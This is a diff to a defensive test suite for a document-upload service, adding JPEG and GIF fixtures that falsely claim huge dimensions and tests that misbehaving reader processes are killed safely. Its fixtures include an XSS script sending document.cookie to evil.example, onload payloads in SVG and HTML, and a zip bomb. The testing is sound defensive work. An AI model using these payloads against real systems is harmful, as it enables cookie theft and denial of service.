@@ -1,3 +1,4 @@
+import sharp from 'sharp';
 import { afterAll, beforeAll, describe, expect, it } from 'vitest';
 import { openReader } from '../../platform/reading/reader.ts';
 import { makeOwner, makePdf, upload, type TestOwner } from '../../testing/makers.ts';
@@ -17,6 +18,7 @@ const script = '<script>fetch("https://evil.example/"+document.cookie)</script>'
 const svg = `<svg xmlns="http://www.w3.org/2000/svg" onload="alert(1)">${script}</svg>`;
 const html = `<!doctype html><body onload="alert(1)">${script}</body>`;
 const png = await pictureSaying('Photo');
+const jpeg = await sharp(png).jpeg().toBuffer();
 const spaces = new Uint8Array(40_000_000).fill(0x20);
 const bombParts = { '[Content_Types].xml': '<Types/>', 'word/document.xml': spaces };
 const bomb = zipOf({ 'a.txt': spaces, 'b.txt': spaces });
@@ -26,6 +28,21 @@ function claiming(side: number): Buffer {
   const claimed = Buffer.from(png);
   claimed.writeUInt32BE(side, 16);
   claimed.writeUInt32BE(side, 20);
+  return claimed;
+}
+
+/** What tells the size of a JPEG is in its first frame header, of a GIF in its seventh to tenth byte. */
+function jpegClaiming(side: number): Buffer {
+  const claimed = Buffer.from(jpeg);
+  const frame = claimed.indexOf(Buffer.from('ffc0', 'hex'));
+  claimed.writeUInt16BE(side, frame + 5);
+  claimed.writeUInt16BE(side, frame + 7);
+  return claimed;
+}
+
+function gifClaiming(side: number): Buffer {
+  const claimed = Buffer.from('GIF89a\0\0\0\0\u0080\0\0\0\0\0ÿÿÿ,\0\0\0\0\0\0\0\0\0\u0002\u0002D\u0001\0;', 'latin1');
+  for (const at of [6, 8, 24, 26]) claimed.writeUInt16LE(side, at);
   return claimed;
 }
 
@@ -103,6 +120,8 @@ describe('a hostile file is kept inert', () => {
       save,
     ],
     ['a PNG of 60,000 by 60,000 pixels', 'photo.png', claiming(60_000), 'image/png', show],
+    ['a JPEG of 60,000 by 60,000 pixels', 'photo.jpg', jpegClaiming(60_000), 'image/jpeg', show],
+    ['a GIF of 60,000 by 60,000 pixels', 'image.gif', gifClaiming(60_000), 'image/gif', show],
     ['a bitmap of 60,000 by 60,000 pixels', 'photo.bmp', bitmapClaiming(60_000), 'image/bmp', show],
     ['a scan of 60,000 by 60,000 pixels', 'scan.tif', tiffClaiming(60_000), 'image/tiff', save],
   ])('%s', { timeout: 60_000 }, async (_what, fileName, written, mimeType, disposition) => {
@@ -126,6 +145,36 @@ describe('a hostile file is kept inert', () => {
     const policy = String(answer.headers['content-security-policy']).split('; ');
     expect(policy).toEqual(expect.arrayContaining(["default-src 'none'", 'sandbox']));
     expect(policy.some((rule) => rule.startsWith('script-src'))).toBe(false);
+  });
+});
+
+describe('a process that looks into a document', () => {
+  const program = (name: string) => new URL(`../../platform/reading/misbehaving/${name}.ts`, import.meta.url).pathname;
+
+  it.each([
+    ['loops', 'time'],
+    ['hoards', 'memory'],
+    ['babbles', 'answer'],
+    ['breaks', 'crash'],
+    ['leaves', 'crash'],
+  ])('is killed when it %s (%s), and the document is none the worse', { timeout: 60_000 }, async (name, cause) => {
+    const { id } = (await upload(t, owner, { fileName: 'photo.png', content: png })).json<{ id: string }>();
+    const reader = openReader({
+      program: program(name),
+      timeMs: cause === 'time' ? 2_000 : 20_000,
+      memoryBytes: 200_000_000,
+    });
+    const named = { safeId: owner.safeId, documentId: id };
+    const look = (retry: number) =>
+      readDocument({ ...t.platform, reader }, named, { signal: new AbortController().signal, retry });
+    // Tried once more, then left alone.
+    await expect(look(0)).rejects.toMatchObject({ code: cause });
+    await look(1);
+    const read = (path: string) =>
+      t.app.inject({ url: `/backend/api/v1/documents/${id}${path}`, headers: owner.headers });
+    expect((await read('')).json()).toMatchObject({ hasThumbnail: false, size: png.length });
+    expect((await read('/thumbnail')).statusCode).toBe(404);
+    expect((await read('/content')).rawPayload.equals(png)).toBe(true);
   });
 });
 
